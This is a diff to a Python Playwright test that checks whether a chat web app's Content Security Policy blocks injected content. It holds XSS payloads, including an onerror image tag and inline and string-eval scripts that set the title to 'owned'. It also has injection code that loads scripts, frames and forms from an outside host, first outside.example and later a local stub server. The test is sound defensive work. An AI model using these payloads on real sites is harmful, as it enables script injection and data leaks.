@@ -72,6 +72,27 @@ $$\\href{{{OUTSIDE}/19}}{{x}} \\includegraphics{{{OUTSIDE}/20.png}}$$
 NAME = "<img src=x onerror=\"document.title='owned'\"> ![p](y) & ${document.title='owned'} {{x}}.pdf"
 
 
+INJECTED = """(elsewhere) => {
+    window.seen = [];
+    document.addEventListener("securitypolicyviolation", (one) => window.seen.push(one.effectiveDirective));
+    const box = document.body.appendChild(document.createElement("div"));
+    const put = (tag, set) => box.appendChild(Object.assign(document.createElement(tag), set));
+    box.innerHTML = `<img src="data:," onerror="document.title = 'owned'">`;
+    put("script", { textContent: "document.title = 'owned'" });
+    put("script", { src: `${elsewhere}/script.js` });
+    put("img", { src: `${elsewhere}/image.png` });
+    put("iframe", { src: `${elsewhere}/frame` });
+    put("link", { rel: "stylesheet", href: `${elsewhere}/style.css` });
+    put("object", { data: `${elsewhere}/object` });
+    put("form", { action: `${elsewhere}/form` }).submit();
+    fetch(`${elsewhere}/fetch`).catch(() => {});
+    setTimeout("document.title = 'owned'", 0);
+}"""
+STOPPED = (
+    "connect-src form-action frame-src img-src object-src script-src script-src-attr script-src-elem style-src-elem"
+).split()
+
+
 class Model(BaseHTTPRequestHandler):
     """A model server that says what a test wants, and keeps what it was asked."""
 
@@ -267,38 +288,20 @@ def test_the_policy_stops_nothing_that_the_page_does_and_all_that_is_put_into_it
     expect(page.locator("#chat .bot").last).to_contain_text("940")
     assert (outside, stopped) == ([], [])
 
-    page.evaluate(
-        """() => {
-            window.seen = [];
-            document.addEventListener("securitypolicyviolation", (one) => window.seen.push(one.effectiveDirective));
-            const box = document.body.appendChild(document.createElement("div"));
-            box.innerHTML = `<img src="data:," onerror="document.title='owned'">
-                <a id="run" href="javascript:document.title='owned'">run</a>`;
-            const script = document.createElement("script");
-            script.textContent = "document.title = 'owned'";
-            box.append(script);
-            const far = document.createElement("script");
-            far.src = "https://outside.example/x.js";
-            box.append(far);
-            new Image().src = "https://outside.example/x.png";
-            fetch("https://outside.example/").catch(() => {});
-            const frame = document.createElement("iframe");
-            frame.src = "https://outside.example/";
-            box.append(frame);
-            const form = document.createElement("form");
-            form.action = "https://outside.example/";
-            box.append(form);
-            form.submit();
-            setTimeout("document.title = 'owned'", 0);
-            document.getElementById("run").click();
-        }"""
-    )
-    wanted = ["connect-src", "form-action", "frame-src", "img-src", "script-src", "script-src-attr", "script-src-elem"]
-    page.wait_for_function("wanted => wanted.every((one) => window.seen.includes(one))", arg=wanted)
-    seen = page.evaluate("window.seen")
-    assert seen.count("script-src-elem") >= 3
+    asked: list[str] = []
+
+    class Outside(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_response(200)
+            self.end_headers()
+
+    with listening(Outside) as elsewhere:
+        page.evaluate(INJECTED, elsewhere)
+        page.wait_for_function("all => all.every((one) => window.seen.includes(one))", arg=STOPPED)
+        assert page.evaluate("window.seen").count("script-src-elem") == 2
     assert page.evaluate("document.title") == "Plumbline"
-    assert outside == []
+    assert (asked, page.url) == ([], f"{site.url}/?__theme=dark")
     page.context.close()
 
 
